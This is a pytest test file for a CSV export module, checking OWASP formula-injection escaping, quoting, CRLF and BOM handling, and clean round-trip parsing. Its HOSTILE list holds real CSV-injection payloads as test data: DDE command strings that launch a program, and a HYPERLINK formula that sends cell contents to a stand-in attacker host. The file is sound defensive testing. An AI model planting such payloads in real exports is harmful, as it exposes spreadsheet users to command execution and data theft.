"""The one CSV writer (`cautionflow.domain.csv_format`): OWASP's formula-injection rule, every text
cell quoted, CRLF (RFC 4180), a BOM for spreadsheets, and text that parses back as written."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from cautionflow.domain.csv_format import BOM, FORMULA_START, csv_line, csv_text, safe_text, safe_text_column

# OWASP "CSV Injection": no cell may begin with = + - @ tab CR LF.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+2+3+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]


def parse(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM):], newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_every_dangerous_start_is_kept_as_text(value):
    text = csv_text(["Address"], [[value]])
    [header, [cell]] = parse(text)
    assert header == ["Address"]
    assert cell == "'" + value  # what the spreadsheet shows as text; the original after the quote
    assert not cell.startswith(tuple(FORMULA_START))


def test_the_rule_covers_exactly_owasps_list():
    assert FORMULA_START == frozenset("=+-@\t\r\n")
    for start in map(chr, range(0x20, 0x7F)):
        assert (safe_text(start + "1") != start + "1") == (start in "=+-@"), start
    # Safe text is left alone, including a formula character later in the cell.
    assert safe_text("1 Mill Lane = the old mill") == "1 Mill Lane = the old mill"
    assert safe_text("") == "" and safe_text("'=already") == "'=already"


def test_text_that_looks_like_a_negative_number_is_escaped_a_number_we_compute_is_not():
    # OWASP's rule escapes "-5" as text (it came from the source: "-5+cmd|..." starts the same way);
    # a number our code computes is written as a number, so a spreadsheet can sort and sum it.
    text = csv_text(["days", "note"], [[-5, "-5"], [21, "21"], [1.5, ""]])
    assert text == BOM + '"days","note"\r\n-5,"\'-5"\r\n21,"21"\r\n1.5,""\r\n'


def test_crlf_lines_every_text_cell_quoted_quotes_doubled_and_a_line_break_kept_inside_its_cell():
    rows = [["Zoë O'Brien", 'The "Old" Mill, Flat 2', "line one\nline two"], ["a;=1+2", "", "x\r\ny"]]
    text = csv_text(["name", "address", "note"], rows)
    assert text.startswith(BOM + '"name","address","note"\r\n')
    assert '"The ""Old"" Mill, Flat 2"' in text  # RFC 4180 2.7
    assert '"a;=1+2"' in text  # quoted: a spreadsheet splitting on ";" still sees one cell
    assert text.endswith("\r\n")
    assert parse(text)[1:] == [[*rows[0]], [*rows[1]]]  # the intended text, newlines and all
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")  # what Excel looks for to read UTF-8


def test_missing_values_are_empty_cells_never_none_or_nan():
    text = csv_text(["a", "b", "c", "d"], [[None, float("nan"), float("inf"), True], {"a": "x"}])
    assert "None" not in text and "nan" not in text.lower() and "inf" not in text
    assert parse(text)[1:] == [["", "", "", "Yes"], ["x", "", "", ""]]


def test_mappings_are_read_by_column_and_other_values_as_text():
    text = csv_text(["when", "who"], [{"who": "=evil", "when": dt.date(2026, 11, 23), "extra": "not written"}])
    assert parse(text)[1:] == [["2026-11-23", "'=evil"]]
    assert "not written" not in text


def test_the_header_is_made_safe_too_and_the_bom_can_be_left_off():
    text = csv_text(["=SUM(A1)", "ok"], [], bom=False)
    assert text == '"\'=SUM(A1)","ok"\r\n'


def test_one_line_and_a_whole_column_follow_the_same_rule():
    assert csv_line(["=1+2", 3, None]) == '"\'=1+2",3,""\r\n'
    assert safe_text_column(HOSTILE + ["safe", ""]) == [safe_text(v) for v in HOSTILE + ["safe", ""]]


def test_a_nul_byte_does_not_stop_the_file():
    # Issue 18: one hostile value must never stop the day (validation strips NUL; the writer copes anyway).
    assert parse(csv_text(["a"], [["x\x00y"]]))[1:] == [["x\x00y"]]
